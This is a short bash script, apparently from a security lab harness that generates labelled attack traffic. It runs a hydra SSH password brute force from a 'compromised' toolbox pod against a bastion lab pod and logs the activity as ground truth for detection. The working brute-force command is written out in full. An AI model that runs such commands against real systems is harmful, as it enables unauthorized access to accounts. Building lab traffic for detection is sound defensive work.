#!/usr/bin/env bash
# Lateral movement: SSH password brute force from the compromised pod against the
# bastion (user admin, 16 passwords, 4 tasks). No lab account exists, so none can succeed.
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip bastion); lab_assert_target "$T"
ns=$(lab_pod_ns toolbox)
lab_hydra_lists
head -16 "$LAB_RUN/passwords.txt" > "$LAB_RUN/ssh-passwords.txt"
gt_begin hydra-ssh lateral-movement hydra pod:toolbox pod:bastion "hydra ssh, user admin, 16 passwords"
lab_exec "$ns" timeout 60 hydra -l admin -P "$LAB_RUN/ssh-passwords.txt" -t 4 -I -o /dev/null "ssh://$T" >>"$GT_LOG" 2>&1 || true
gt_end '{"dport":22}'
